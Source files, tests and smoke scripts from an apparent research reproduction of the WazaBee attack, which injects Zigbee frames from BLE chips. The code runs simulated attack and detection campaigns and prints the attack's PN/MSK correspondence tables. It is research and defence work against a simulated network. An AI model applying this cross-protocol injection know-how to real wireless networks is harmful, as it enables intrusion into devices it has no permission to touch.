package wazabee

// Hub publish-path benchmarks: the latency-stamping overhead budget.
// BenchmarkHubPublishUnstamped is the baseline fan-out cost;
// BenchmarkHubPublishLatencyStamped adds an Origin stamp, which turns
// on the emit→publish histogram observation plus the per-subscriber
// queue-entry stamping. The observability layer's contract is that the
// stamped path stays within a few percent of the baseline.

import (
	"testing"
	"time"

	"wazabee/internal/capture"
	"wazabee/internal/obs"
)

// benchHub builds a hub with the daemon's steady-state fan-out shape —
// two subscribers (the pcap tee plus one network listener) — with
// queues deep enough that publishing b.N records only ever hits the
// drop-oldest path after they fill once: per-op work is then constant
// (evict + enqueue per subscriber) and comparable between the stamped
// and unstamped runs.
func benchHub(b *testing.B) (*capture.Hub, capture.Record) {
	b.Helper()
	hub := capture.NewHub(obs.NewRegistry())
	hub.Flight = obs.NewFlight(64)
	for _, name := range []string{"pcap", "tcp:bench"} {
		if _, err := hub.Subscribe(name, 256); err != nil {
			b.Fatal(err)
		}
	}
	rec := capture.Record{
		At:      time.Now(),
		Channel: 15,
		Seq:     1,
		Decoder: "wazabee",
		PSDU:    benchPSDU(b, []byte{0xca, 0xfe, 0x00, 0x42}),
	}
	return hub, rec
}

// BenchmarkHubPublishUnstamped is the pre-observability publish cost:
// no Origin, so only queue-entry stamping and the fan-out itself run.
func BenchmarkHubPublishUnstamped(b *testing.B) {
	hub, rec := benchHub(b)
	defer hub.Close()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		hub.Publish(rec)
	}
}

// BenchmarkHubPublishLatencyStamped publishes Origin-stamped records,
// exercising the full latency instrumentation on the publish path. The
// BENCH.json gate compares its ns/op against the unstamped baseline.
func BenchmarkHubPublishLatencyStamped(b *testing.B) {
	hub, rec := benchHub(b)
	defer hub.Close()
	rec.Origin = time.Now()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		hub.Publish(rec)
	}
}
