#!/bin/sh
# smoke-health: boot wazabeed, wait for readiness, assert the flight
# recorder has events, then verify a clean SIGTERM shutdown.
#
# Usage: scripts/smoke-health.sh [host:port]
set -eu

ADDR="${1:-127.0.0.1:19753}"
GO="${GO:-go}"
WORKDIR="$(mktemp -d)"
BIN="$WORKDIR/wazabeed"
LOG="$WORKDIR/daemon.log"
PID=""

cleanup() {
    if [ -n "$PID" ] && kill -0 "$PID" 2>/dev/null; then
        kill -9 "$PID" 2>/dev/null || true
    fi
    rm -rf "$WORKDIR"
}
trap cleanup EXIT INT TERM

fetch() {
    # fetch <url> <outfile>; curl preferred, wget fallback. Prints the
    # HTTP status code.
    if command -v curl >/dev/null 2>&1; then
        curl -s -o "$2" -w '%{http_code}' "$1" || echo 000
    else
        if wget -q -O "$2" "$1" 2>/dev/null; then echo 200; else echo 000; fi
    fi
}

echo "smoke-health: building wazabeed"
$GO build -o "$BIN" ./cmd/wazabeed

echo "smoke-health: starting wazabeed on $ADDR"
"$BIN" -metrics-addr "$ADDR" -listen "" -pcap "" -interval 50ms -log-level warn >"$LOG" 2>&1 &
PID=$!

# Poll /readyz until it answers 200 (or give up after ~10 s).
READY=0
i=0
while [ $i -lt 100 ]; do
    code="$(fetch "http://$ADDR/readyz" "$WORKDIR/readyz.json")"
    if [ "$code" = "200" ]; then
        READY=1
        break
    fi
    if ! kill -0 "$PID" 2>/dev/null; then
        echo "smoke-health: FAIL — daemon exited before becoming ready" >&2
        cat "$LOG" >&2
        exit 1
    fi
    i=$((i + 1))
    sleep 0.1
done
if [ "$READY" != "1" ]; then
    echo "smoke-health: FAIL — /readyz never answered 200 (last code $code)" >&2
    cat "$WORKDIR/readyz.json" >&2 || true
    exit 1
fi
echo "smoke-health: /readyz is 200"

# Let a few capture periods flow, then the flight recorder must have
# frame events.
sleep 0.5
code="$(fetch "http://$ADDR/debug/flight" "$WORKDIR/flight.json")"
if [ "$code" != "200" ]; then
    echo "smoke-health: FAIL — /debug/flight answered $code" >&2
    exit 1
fi
if ! grep -q '"kind"' "$WORKDIR/flight.json"; then
    echo "smoke-health: FAIL — flight recorder dump has no events:" >&2
    cat "$WORKDIR/flight.json" >&2
    exit 1
fi
echo "smoke-health: /debug/flight has events"

# Clean shutdown on SIGTERM.
kill -TERM "$PID"
i=0
while kill -0 "$PID" 2>/dev/null; do
    if [ $i -ge 100 ]; then
        echo "smoke-health: FAIL — daemon ignored SIGTERM for 10 s" >&2
        exit 1
    fi
    i=$((i + 1))
    sleep 0.1
done
wait "$PID" 2>/dev/null || {
    echo "smoke-health: FAIL — daemon exited non-zero:" >&2
    cat "$LOG" >&2
    exit 1
}
PID=""

if ! grep -q 'flight recorder:' "$LOG"; then
    echo "smoke-health: FAIL — shutdown output missing the flight summary:" >&2
    cat "$LOG" >&2
    exit 1
fi
echo "smoke-health: clean shutdown with flight summary — PASS"
