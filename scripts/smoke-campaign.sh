#!/bin/sh
# smoke-campaign: run the attack/defense campaign engine end-to-end on a
# small sweep — two attack scenarios (plus the benign baseline that
# rides along) at 20 trials per cell — and assert the ROC matrix digest
# matches the pinned value at two different worker counts. The digest is
# a sha256 over the matrix JSON, so this checks the scenario plans, the
# mesh, the frame-tier IDS model, the Monte-Carlo runner and the
# reduction all at once, including worker-count independence.
#
# Usage: scripts/smoke-campaign.sh
set -eu

GO="${GO:-go}"
WORKDIR="$(mktemp -d)"
BIN="$WORKDIR/wazabeecampaign"

# Pinned for: -scenarios scenario-a-injection,channel-migration
#             -trials 20 -seed 7 -impact 1 (default thresholds).
# Update only for an intended campaign/simulator behavior change, in
# lockstep with the goldens in internal/campaign/campaign_test.go.
WANT="4778b663abffec40601218a32e92b1468f7ac395b1ac5d266fa5ad340a4ae7c7"

cleanup() {
    rm -rf "$WORKDIR"
}
trap cleanup EXIT INT TERM

echo "smoke-campaign: building wazabeecampaign"
$GO build -o "$BIN" ./cmd/wazabeecampaign

for WORKERS in 1 4; do
    echo "smoke-campaign: 2 attack scenarios x 20 trials, workers=$WORKERS"
    "$BIN" -scenarios scenario-a-injection,channel-migration \
        -trials 20 -seed 7 -impact 1 -workers "$WORKERS" \
        -quiet -out "$WORKDIR/roc-$WORKERS.json" >"$WORKDIR/digest-$WORKERS.txt"
    GOT="$(sed -n 's/^digest sha256:\([0-9a-f]*\)$/\1/p' "$WORKDIR/digest-$WORKERS.txt")"
    if [ -z "$GOT" ]; then
        echo "smoke-campaign: FAIL — no digest in output:" >&2
        cat "$WORKDIR/digest-$WORKERS.txt" >&2
        exit 1
    fi
    if [ "$GOT" != "$WANT" ]; then
        echo "smoke-campaign: FAIL — workers=$WORKERS digest $GOT, want $WANT" >&2
        exit 1
    fi
done

if ! cmp -s "$WORKDIR/roc-1.json" "$WORKDIR/roc-4.json"; then
    echo "smoke-campaign: FAIL — matrix JSON differs across worker counts" >&2
    exit 1
fi

# The JSON must carry the full ROC shape: every cell with per-detector
# rows and Wilson bounds, and the impact table.
for FIELD in '"cells"' '"detector"' '"lo"' '"hi"' '"impacts"' '"benign-baseline"'; do
    if ! grep -q "$FIELD" "$WORKDIR/roc-1.json"; then
        echo "smoke-campaign: FAIL — matrix JSON missing $FIELD" >&2
        exit 1
    fi
done

echo "smoke-campaign: digest pinned and worker-independent — PASS"
