#!/bin/sh
# smoke-sim: run the mesh simulator observatory end-to-end on a small
# tree — export a Chrome trace, validate it parses, and assert the
# energy accountant produced nonzero per-node totals.
#
# Usage: scripts/smoke-sim.sh
set -eu

GO="${GO:-go}"
WORKDIR="$(mktemp -d)"
BIN="$WORKDIR/wazabeesim"
TRACE="$WORKDIR/trace.json"
SUMMARY="$WORKDIR/summary.json"

cleanup() {
    rm -rf "$WORKDIR"
}
trap cleanup EXIT INT TERM

echo "smoke-sim: building wazabeesim"
$GO build -o "$BIN" ./cmd/wazabeesim

# Invalid flags must exit non-zero with a diagnostic — not panic (a
# goroutine dump exits 2 and prints no usable error).
echo "smoke-sim: asserting bad flags fail cleanly"
set +e
"$BIN" -topology star -nodes -3 -duration 1s >/dev/null 2>"$WORKDIR/badflags.err"
STATUS=$?
set -e
if [ "$STATUS" -ne 1 ]; then
    echo "smoke-sim: FAIL — negative -nodes exited $STATUS, want 1" >&2
    cat "$WORKDIR/badflags.err" >&2
    exit 1
fi
if ! grep -q "negative -nodes" "$WORKDIR/badflags.err"; then
    echo "smoke-sim: FAIL — no diagnostic for negative -nodes:" >&2
    cat "$WORKDIR/badflags.err" >&2
    exit 1
fi

echo "smoke-sim: simulating a depth-2 fanout-4 tree with -trace and -energy"
"$BIN" -topology tree -depth 2 -fanout 4 -duration 20s \
    -trace "$TRACE" -validate-trace -energy -json >"$SUMMARY"

# -validate-trace already parsed the trace inside the binary; check the
# document landed on disk with the expected framing too.
if [ ! -s "$TRACE" ]; then
    echo "smoke-sim: FAIL — trace file is empty" >&2
    exit 1
fi
if ! grep -q '"traceEvents"' "$TRACE"; then
    echo "smoke-sim: FAIL — trace is not a Chrome trace-event document" >&2
    head -c 400 "$TRACE" >&2
    exit 1
fi
echo "smoke-sim: trace validates ($(wc -c <"$TRACE") bytes)"

# The JSON summary must carry a nonzero energy total and heap marks.
if ! grep -q '"energy_microjoules"' "$SUMMARY"; then
    echo "smoke-sim: FAIL — summary has no energy total:" >&2
    cat "$SUMMARY" >&2
    exit 1
fi
if grep -q '"energy_microjoules": 0,' "$SUMMARY"; then
    echo "smoke-sim: FAIL — energy total is zero:" >&2
    cat "$SUMMARY" >&2
    exit 1
fi
if ! grep -q '"executed"' "$SUMMARY"; then
    echo "smoke-sim: FAIL — summary has no heap report:" >&2
    cat "$SUMMARY" >&2
    exit 1
fi
echo "smoke-sim: energy total nonzero, heap marks present"

# Same seed, same flags — the trace must be byte-identical.
"$BIN" -topology tree -depth 2 -fanout 4 -duration 20s \
    -trace "$WORKDIR/trace2.json" -energy >/dev/null
if ! cmp -s "$TRACE" "$WORKDIR/trace2.json"; then
    echo "smoke-sim: FAIL — same-seed traces differ" >&2
    exit 1
fi
echo "smoke-sim: same-seed trace byte-identical — PASS"
