package wazabee

import (
	"bytes"
	"path/filepath"
	"testing"
	"time"

	"wazabee/internal/bitstream"
	"wazabee/internal/ieee802154"
)

func sealPSDU(t *testing.T, payload []byte) []byte {
	t.Helper()
	fcs := bitstream.FCS16Bytes(bitstream.FCS16(payload))
	return append(append([]byte{}, payload...), fcs[0], fcs[1])
}

func TestFacadeLoopback(t *testing.T) {
	tx, err := NewTransmitter(NRF52832(), 8)
	if err != nil {
		t.Fatal(err)
	}
	rx, err := NewReceiver(CC1352R1(), 8)
	if err != nil {
		t.Fatal(err)
	}
	psdu := sealPSDU(t, []byte{0x01, 0x02, 0x03, 0x04, 0x05})
	sig, err := tx.ModulatePSDU(psdu)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(120, 120)
	if err != nil {
		t.Fatal(err)
	}
	dem, err := rx.Receive(padded)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, psdu) {
		t.Error("facade loopback PSDU mismatch")
	}
}

func TestFacadeTables(t *testing.T) {
	table, err := CorrespondenceTable()
	if err != nil {
		t.Fatal(err)
	}
	if len(table[0].PN) != 32 || len(table[0].MSK) != 31 {
		t.Error("correspondence table malformed")
	}
	channels := CommonChannels()
	if len(channels) != 8 {
		t.Errorf("CommonChannels = %d rows, want 8", len(channels))
	}
	if AccessAddress() == 0 {
		t.Error("access address is zero")
	}
	msk, err := ConvertPNSequence(table[5].PN)
	if err != nil {
		t.Fatal(err)
	}
	if msk.String() != table[5].MSK.String() {
		t.Error("ConvertPNSequence disagrees with table")
	}
	stream, err := ConvertChipStream(append(Bits{}, table[0].PN...))
	if err != nil {
		t.Fatal(err)
	}
	if len(stream) != 31 {
		t.Errorf("ConvertChipStream length = %d", len(stream))
	}
}

func TestFacadeFrameHelpers(t *testing.T) {
	frame := NewDataFrame(1, 0x1234, 0x0042, 0x0063, []byte{9}, false)
	psdu, err := frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	ppdu, err := NewFrame(psdu)
	if err != nil {
		t.Fatal(err)
	}
	back, err := ieee802154.ParseMACFrame(ppdu.PSDU)
	if err != nil {
		t.Fatal(err)
	}
	if back.DestAddr != 0x0042 {
		t.Error("frame helper addressing lost")
	}
}

func TestFacadeExperiment(t *testing.T) {
	cfg := DefaultExperimentConfig()
	cfg.FramesPerChannel = 2
	cfg.WiFi = false
	res, err := RunExperiment(cfg, CC1352R1(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	if res.ValidRate() < 0.95 {
		t.Errorf("facade experiment valid rate = %.3f", res.ValidRate())
	}
	if FormatExperiment(res) == "" {
		t.Error("empty experiment report")
	}
}

func TestFacadeCountermeasures(t *testing.T) {
	monitor, err := NewIDSMonitor(8)
	if err != nil {
		t.Fatal(err)
	}
	if monitor.FingerprintThreshold <= 0 {
		t.Error("monitor has no fingerprint threshold")
	}
	scores, err := SurveyPivotability(8, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(scores) < 5 {
		t.Errorf("pivotability survey returned %d rows", len(scores))
	}
}

func TestFacadeLiveNetwork(t *testing.T) {
	net, err := NewVictimNetwork(5, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	live, err := StartLiveNetwork(net, time.Millisecond, 14)
	if err != nil {
		t.Fatal(err)
	}
	select {
	case _, ok := <-live.Captures():
		if !ok {
			t.Fatalf("stream closed: %v", live.Err())
		}
	case <-time.After(3 * time.Second):
		t.Fatal("no capture within deadline")
	}
	live.Shutdown()
}

func TestFacadeScenarios(t *testing.T) {
	net, err := NewVictimNetwork(77, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	model := NRF51822()
	tx, err := NewTransmitter(model, 8)
	if err != nil {
		t.Fatal(err)
	}
	rx, err := NewReceiver(model, 8)
	if err != nil {
		t.Fatal(err)
	}
	tracker, err := NewTracker(tx, rx, net)
	if err != nil {
		t.Fatal(err)
	}
	info, err := tracker.ActiveScan([]int{13, 14})
	if err != nil {
		t.Fatal(err)
	}
	if info.Channel != 14 {
		t.Errorf("scan channel = %d", info.Channel)
	}
	if _, err := NewSmartphone(8); err != nil {
		t.Fatal(err)
	}
}

// TestFacadeCapture exercises the capture subsystem end to end through
// the public surface: sniff live traffic, fan it out through a hub,
// persist the frames to pcap, and replay the file into a fresh
// receiver for the identical PSDU.
func TestFacadeCapture(t *testing.T) {
	network, err := NewVictimNetwork(11, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	live, err := StartLiveNetwork(network, time.Millisecond, 14)
	if err != nil {
		t.Fatal(err)
	}
	defer live.Shutdown()
	rx, err := NewReceiver(CC1352R1(), 8)
	if err != nil {
		t.Fatal(err)
	}
	rx.Obs = NewMetricsRegistry()

	hub := NewHub()
	sub, err := hub.Subscribe("test", 8)
	if err != nil {
		t.Fatal(err)
	}

	var livePSDU []byte
	deadline := time.After(3 * time.Second)
	for livePSDU == nil {
		select {
		case c, ok := <-live.Captures():
			if !ok {
				t.Fatalf("stream closed: %v", live.Err())
			}
			if c.Channel != 14 {
				t.Fatalf("capture channel %d, want 14", c.Channel)
			}
			dem, err := rx.Receive(c.IQ)
			if err != nil {
				continue
			}
			livePSDU = append([]byte(nil), dem.PPDU.PSDU...)
			hub.Publish(CaptureRecord{At: c.At, Channel: c.Channel, Decoder: "wazabee", PSDU: livePSDU})
		case <-deadline:
			t.Fatal("no decodable capture within deadline")
		}
	}
	hub.Close()
	rec, ok := sub.Recv()
	if !ok {
		t.Fatal("subscription ended before delivering the record")
	}

	path := filepath.Join(t.TempDir(), "facade.pcap")
	if err := WritePCAP(path, []CaptureRecord{rec}); err != nil {
		t.Fatal(err)
	}
	recovered, err := OpenPCAP(path)
	if err != nil {
		t.Fatal(err)
	}
	rx2, err := NewReceiver(CC1352R1(), 8)
	if err != nil {
		t.Fatal(err)
	}
	rx2.Obs = NewMetricsRegistry()
	cfg := ReplayConfig{SamplesPerChip: 8, Seed: 3, SNRdB: 25, Obs: NewMetricsRegistry()}
	dems, err := ReplayThroughReceiver(recovered, cfg, rx2)
	if err != nil {
		t.Fatal(err)
	}
	if len(dems) != 1 || dems[0] == nil {
		t.Fatalf("replay missed the recorded frame: %v", dems)
	}
	if !bytes.Equal(dems[0].PPDU.PSDU, livePSDU) {
		t.Fatalf("replayed PSDU %x, want %x", dems[0].PPDU.PSDU, livePSDU)
	}
}
