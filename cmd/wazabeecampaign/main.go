// wazabeecampaign runs the attack/defense campaign engine from the
// command line: every selected scenario from the internal/campaign
// catalogue crossed with every IDS threshold, each cell a deterministic
// Monte-Carlo point, reduced into an attack-vs-detection ROC matrix with
// Wilson confidence intervals plus per-scenario impact averages. The
// same seed reproduces the matrix byte for byte at any -workers.
//
//	wazabeecampaign -scenarios all -trials 200 -fidelity frame
//	wazabeecampaign -scenarios scenario-a-injection,benign-baseline -trials 50 -out roc.json
//	wazabeecampaign -list
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"time"

	"wazabee/internal/campaign"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

type config struct {
	scenarios  string
	trials     int
	fidelity   string
	workers    int
	out        string
	csvOut     string
	seed       int64
	thresholds string
	duration   time.Duration
	devices    int
	snrDB      float64
	chip       string
	impact     int
	checkpoint string
	digest     bool
	list       bool
	quiet      bool
}

func main() {
	if err := run(os.Args[1:], os.Stdout, os.Stderr); err != nil {
		fmt.Fprintf(os.Stderr, "wazabeecampaign: %v\n", err)
		os.Exit(1)
	}
}

func registerFlags(fs *flag.FlagSet, cfg *config) {
	fs.StringVar(&cfg.scenarios, "scenarios", "all", "comma-separated scenario names, or \"all\" (see -list)")
	fs.IntVar(&cfg.trials, "trials", campaign.DefaultTrials, "Monte-Carlo trials per (scenario, threshold) cell")
	fs.StringVar(&cfg.fidelity, "fidelity", "frame", "mesh delivery tier: frame or symbol")
	fs.IntVar(&cfg.workers, "workers", 0, "runner worker pool; 0 means GOMAXPROCS (any value yields the identical matrix)")
	fs.StringVar(&cfg.out, "out", "", "write the matrix JSON here (empty skips it)")
	fs.StringVar(&cfg.csvOut, "csv", "", "write the flat per-detector CSV here (empty skips it)")
	fs.Int64Var(&cfg.seed, "seed", 42, "campaign seed; same seed, same flags -> byte-identical matrix")
	fs.StringVar(&cfg.thresholds, "thresholds", "", "comma-separated IDS soft-EVM thresholds (empty selects the default sweep)")
	fs.DurationVar(&cfg.duration, "duration", 0, "virtual time per scenario run (0 selects the default)")
	fs.IntVar(&cfg.devices, "devices", 0, "end devices in the victim star mesh (0 selects the default)")
	fs.Float64Var(&cfg.snrDB, "snr", 0, "victim link SNR in dB (0 selects the default)")
	fs.StringVar(&cfg.chip, "chip", "", "energy-accountant profile: cc2652 or nrf52840 (empty selects cc2652)")
	fs.IntVar(&cfg.impact, "impact", 0, "serial impact samples per scenario (0 selects the default)")
	fs.StringVar(&cfg.checkpoint, "checkpoint", "", "resume file for the Monte-Carlo sweep (empty disables)")
	fs.BoolVar(&cfg.digest, "digest", true, "print the matrix sha256 digest (the cross-machine regression oracle)")
	fs.BoolVar(&cfg.list, "list", false, "list the scenario catalogue and exit")
	fs.BoolVar(&cfg.quiet, "quiet", false, "suppress the text ROC table on stdout")
}

// parseThresholds resolves the -thresholds flag.
func parseThresholds(s string) ([]float64, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return nil, nil
	}
	var out []float64
	for _, f := range strings.Split(s, ",") {
		f = strings.TrimSpace(f)
		if f == "" {
			continue
		}
		v, err := strconv.ParseFloat(f, 64)
		if err != nil {
			return nil, fmt.Errorf("bad threshold %q: %w", f, err)
		}
		out = append(out, v)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("empty -thresholds %q", s)
	}
	return out, nil
}

func run(args []string, out, errOut io.Writer) error {
	cfg := config{}
	fs := flag.NewFlagSet("wazabeecampaign", flag.ContinueOnError)
	fs.SetOutput(errOut)
	registerFlags(fs, &cfg)
	if err := fs.Parse(args); err != nil {
		return err
	}

	if cfg.list {
		for _, sc := range campaign.Catalogue() {
			kind := "attack"
			if !sc.Attack() {
				kind = "benign"
			}
			fmt.Fprintf(out, "%-22s %-7s %s\n", sc.Name(), kind, sc.Description())
		}
		return nil
	}

	scenarios, err := campaign.ParseScenarios(cfg.scenarios)
	if err != nil {
		return err
	}
	thresholds, err := parseThresholds(cfg.thresholds)
	if err != nil {
		return err
	}
	fid, err := radio.ParseFidelity(cfg.fidelity)
	if err != nil {
		return err
	}
	if fid == radio.FidelityIQ {
		return fmt.Errorf("-fidelity iq is not supported by the mesh simulator (use symbol or frame)")
	}
	if cfg.trials < 1 {
		return fmt.Errorf("-trials %d < 1", cfg.trials)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	start := time.Now()
	matrix, err := campaign.RunMatrix(ctx, campaign.MatrixSpec{
		Scenarios:     scenarios,
		Thresholds:    thresholds,
		Trials:        cfg.trials,
		Seed:          cfg.seed,
		Workers:       cfg.workers,
		Fidelity:      fid,
		SNRdB:         cfg.snrDB,
		Duration:      cfg.duration,
		Devices:       cfg.devices,
		Chip:          cfg.chip,
		ImpactSamples: cfg.impact,
		Checkpoint:    cfg.checkpoint,
		Obs:           obs.NewRegistry(),
	})
	if err != nil {
		return err
	}
	wall := time.Since(start)

	if cfg.out != "" {
		f, err := os.Create(cfg.out)
		if err != nil {
			return fmt.Errorf("create -out file: %w", err)
		}
		if err := matrix.WriteJSON(f); err != nil {
			f.Close()
			return fmt.Errorf("write matrix JSON: %w", err)
		}
		if err := f.Close(); err != nil {
			return fmt.Errorf("write matrix JSON: %w", err)
		}
	}
	if cfg.csvOut != "" {
		f, err := os.Create(cfg.csvOut)
		if err != nil {
			return fmt.Errorf("create -csv file: %w", err)
		}
		if err := matrix.WriteCSV(f); err != nil {
			f.Close()
			return fmt.Errorf("write matrix CSV: %w", err)
		}
		if err := f.Close(); err != nil {
			return fmt.Errorf("write matrix CSV: %w", err)
		}
	}

	if !cfg.quiet {
		if err := matrix.WriteText(out); err != nil {
			return err
		}
	}
	cells := len(matrix.Cells)
	fmt.Fprintf(errOut, "wazabeecampaign: %d cells x %d trials in %v\n",
		cells, cfg.trials, wall.Round(time.Millisecond))
	if cfg.digest {
		fmt.Fprintf(out, "digest sha256:%s\n", matrix.Digest())
	}
	return nil
}
