// Command signals emits the waveform data behind Figures 1–3 of the
// paper as CSV on stdout, for plotting:
//
//	signals -figure 1    2-FSK/MSK baseband: I, Q and instantaneous frequency per sample
//	signals -figure 2    O-QPSK half-sine temporal decomposition: I(t), Q(t), s(t)
//	signals -figure 3    O-QPSK phase trajectory (constellation transitions)
package main

import (
	"flag"
	"fmt"
	"math"
	"os"

	"wazabee/internal/bitstream"
	"wazabee/internal/ble"
	"wazabee/internal/core"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
)

const sps = 32 // high oversampling for smooth plots

func main() {
	obs.RegisterBuildInfo(nil)
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "signals:", err)
		os.Exit(1)
	}
}

func run() error {
	figure := flag.Int("figure", 1, "paper figure to regenerate (1, 2 or 3; 4 emits the GFSK-vs-O-QPSK spectra)")
	flag.Parse()
	switch *figure {
	case 1:
		return figure1()
	case 2:
		return figure2()
	case 3:
		return figure3()
	case 4:
		return spectra()
	default:
		return fmt.Errorf("unknown figure %d", *figure)
	}
}

// spectra emits the power spectral densities of the two waveforms the
// attack equates: the BLE GFSK emission of a WazaBee frame and the same
// frame from a native O-QPSK radio — the starting point for the
// spectrum-monitoring counter-measures of section VII.
func spectra() error {
	const fftSize = 1024
	payload := make([]byte, 32)
	for i := range payload {
		payload[i] = byte(i*37 + 11)
	}
	zphy, err := ieee802154.NewPHY(sps)
	if err != nil {
		return err
	}
	chips := ieee802154.Spread(payload)
	oqpsk, err := zphy.ModulateChips(chips)
	if err != nil {
		return err
	}
	bphy, err := ble.NewPHY(ble.LE2M, sps)
	if err != nil {
		return err
	}
	msk, err := core.ConvertChipStream(chips)
	if err != nil {
		return err
	}
	gfsk, err := bphy.ModulateBits(msk)
	if err != nil {
		return err
	}
	psdO, err := dsp.PowerSpectralDensity(oqpsk, fftSize)
	if err != nil {
		return err
	}
	psdG, err := dsp.PowerSpectralDensity(gfsk, fftSize)
	if err != nil {
		return err
	}
	fmt.Println("freq_mhz,oqpsk_db,gfsk_db")
	sampleRate := float64(sps) * ieee802154.ChipRate
	for i := 0; i < fftSize; i++ {
		freq := (float64(i) - fftSize/2) * sampleRate / fftSize / 1e6
		fmt.Printf("%.4f,%.2f,%.2f\n", freq, 10*math.Log10(psdO[i]+1e-15), 10*math.Log10(psdG[i]+1e-15))
	}
	return nil
}

// figure1 shows the 2-FSK I/Q rotation directions: a 1 encoded by a
// counter-clockwise rotation, a 0 by a clockwise rotation.
func figure1() error {
	phy, err := ble.NewPHYWithShaping(ble.LE2M, sps, 0.5, 0)
	if err != nil {
		return err
	}
	bits, err := bitstream.ParseBits("1100101")
	if err != nil {
		return err
	}
	sig, err := phy.ModulateBits(bits)
	if err != nil {
		return err
	}
	incs := dsp.Discriminate(sig)
	fmt.Println("sample,bit,i,q,freq")
	for n, v := range sig {
		bit := n / sps
		if bit >= len(bits) {
			break
		}
		f := 0.0
		if n < len(incs) {
			f = incs[n]
		}
		fmt.Printf("%d,%d,%.6f,%.6f,%.6f\n", n, bits[bit], real(v), imag(v), f)
	}
	return nil
}

// figure2 reproduces the temporal decomposition of the O-QPSK modulated
// signal: the half-sine shaped I and Q components and their sum.
func figure2() error {
	phy, err := ieee802154.NewPHY(sps)
	if err != nil {
		return err
	}
	chips, err := bitstream.ParseBits("110100101101")
	if err != nil {
		return err
	}
	sig, err := phy.ModulateChips(chips)
	if err != nil {
		return err
	}
	fmt.Println("sample,chip,i,q,magnitude")
	for n, v := range sig {
		chipIdx := n / sps
		chipVal := -1
		if chipIdx < len(chips) {
			chipVal = int(chips[chipIdx])
		}
		re, im := real(v), imag(v)
		fmt.Printf("%d,%d,%.6f,%.6f,%.6f\n", n, chipVal, re, im, re*re+im*im)
	}
	return nil
}

// figure3 emits the phase trajectory of the O-QPSK signal: ±π/2 linear
// transitions between constellation states.
func figure3() error {
	phy, err := ieee802154.NewPHY(sps)
	if err != nil {
		return err
	}
	chips := ieee802154.Spread([]byte{0x5a})
	sig, err := phy.ModulateChips(chips)
	if err != nil {
		return err
	}
	phase := dsp.UnwrapPhase(sig)
	trans := ieee802154.ChipTransitions(chips)
	fmt.Println("sample,phase,i,q,transition")
	for n, v := range sig {
		chipIdx := n / sps
		t := -1
		if chipIdx >= 1 && chipIdx-1 < len(trans) {
			t = int(trans[chipIdx-1])
		}
		fmt.Printf("%d,%.6f,%.6f,%.6f,%d\n", n, phase[n], real(v), imag(v), t)
	}
	return nil
}
