// Command wazabee is the CLI for the WazaBee reproduction: it prints the
// attack's lookup tables, converts PN sequences, and runs single frames
// through the simulated air in both directions.
//
// Usage:
//
//	wazabee table              print the PN/MSK correspondence table (Table I + Algorithm 1)
//	wazabee channels           print the Zigbee/BLE common channels (Table II)
//	wazabee chips              print the chip capability matrix
//	wazabee convert <bits>     convert a 32-chip PN sequence to its MSK encoding
//	wazabee tx [-chip name] [-channel n] [-payload hex]
//	                           WazaBee TX -> legitimate 802.15.4 RX over the simulated air
//	wazabee rx [-chip name] [-channel n] [-payload hex]
//	                           legitimate 802.15.4 TX -> WazaBee RX over the simulated air
//	wazabee link [-chip name] [-channel n] [-frames n] [-snr dB]
//	                           sound the link with test frames and print the
//	                           per-frame LinkStats table (RSSI/SNR/CFO/LQI)
package main

import (
	"encoding/hex"
	"flag"
	"fmt"
	"os"
	"time"

	"wazabee/internal/bitstream"
	"wazabee/internal/chip"
	"wazabee/internal/core"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
	"wazabee/internal/radio"
	"wazabee/internal/zigbee"
)

func main() {
	obs.RegisterBuildInfo(nil)
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "wazabee:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("missing subcommand (table, channels, chips, convert, tx, rx, link)")
	}
	switch args[0] {
	case "link":
		return linkReport(args[1:])
	case "table":
		return printTable()
	case "channels":
		return printChannels()
	case "chips":
		return printChips()
	case "convert":
		if len(args) < 2 {
			return fmt.Errorf("convert needs a 32-chip bit string")
		}
		return convert(args[1])
	case "tx":
		return overAir(args[1:], true)
	case "rx":
		return overAir(args[1:], false)
	default:
		return fmt.Errorf("unknown subcommand %q", args[0])
	}
}

func printTable() error {
	table, err := core.CorrespondenceTable()
	if err != nil {
		return err
	}
	fmt.Println("symbol  PN sequence (32 chips, Table I)      MSK encoding (31 bits, Algorithm 1)")
	for _, row := range table {
		fmt.Printf("%4d    %s %s\n", row.Symbol, row.PN, row.MSK)
	}
	fmt.Printf("\nBLE access address for 802.15.4 preamble detection: 0x%08x\n", core.AccessAddress())
	return nil
}

func printChannels() error {
	fmt.Println("Zigbee channel  BLE channel  centre frequency (Table II)")
	for _, m := range core.CommonChannels() {
		fmt.Printf("%14d  %11d  %g MHz\n", m.Zigbee, m.BLE, m.FrequencyMHz)
	}
	return nil
}

func printChips() error {
	models := []chip.Model{
		chip.NRF52832(), chip.CC1352R1(), chip.NRF51822(),
		chip.CC2652R(), chip.AndroidController(), chip.RZUSBStick(),
	}
	fmt.Printf("%-24s %-8s %-9s %-9s %-9s %-8s %s\n",
		"chip", "mode", "any-freq", "crc-off", "whit-off", "tx", "rx")
	for _, m := range models {
		mode := "-"
		if m.Mode != 0 {
			mode = m.Mode.String()
		}
		txOK, rxOK := "no", "no"
